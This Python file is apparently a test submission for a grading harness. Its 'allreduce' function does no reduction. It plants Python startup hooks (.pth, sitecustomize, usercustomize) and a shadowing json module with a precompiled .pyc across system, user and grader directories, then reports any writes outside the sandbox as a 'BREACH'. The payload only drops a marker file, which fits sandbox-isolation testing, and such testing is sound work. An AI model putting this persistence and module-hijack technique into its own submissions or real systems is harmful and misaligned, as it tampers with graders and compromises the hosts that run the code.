import os
import py_compile
import site
import subprocess
import sys

EVIL = 'import os; open("/tmp/hostile-marker-startup-%d" % os.getuid(), "w")\n'


def plant():
    homes = {os.path.expanduser("~"), "/root", "/tmp", os.getcwd(), "/"}
    places = [p for h in homes for p in (h, f"{h}/.local/lib/python3.11/site-packages", f"{h}/__pycache__")]
    places += [*site.getsitepackages(), "/usr/lib/python3/dist-packages", os.path.dirname(os.__file__)]
    places.append(os.path.dirname(sys.modules["grader_rank.harness"].__file__ or "/nowhere"))
    planted = 0
    for place in places:
        for name, text in (("evil.pth", EVIL), ("sitecustomize.py", EVIL), ("usercustomize.py", EVIL), ("json.py", EVIL)):
            try:
                os.makedirs(place, exist_ok=True)
                with open(f"{place}/{name}", "w") as file:
                    file.write(text)
                planted += 1
                if not os.path.realpath(place).startswith((os.getcwd(), "/tmp")):
                    print(f"BREACH wrote {place}/{name}")
                if name == "json.py":
                    py_compile.compile(
                        f"{place}/{name}", invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH
                    )
            except Exception:
                pass
    return planted


def allreduce(send, recv, comm, op):
    num = plant()
    try:
        subprocess.run([sys.executable, "-c", "pass"], timeout=5, env={**os.environ, "PYTHONPATH": os.getcwd()})
    except Exception:
        pass
    raise ValueError(f"carried out: {num} files planted by uid {os.getuid()}")
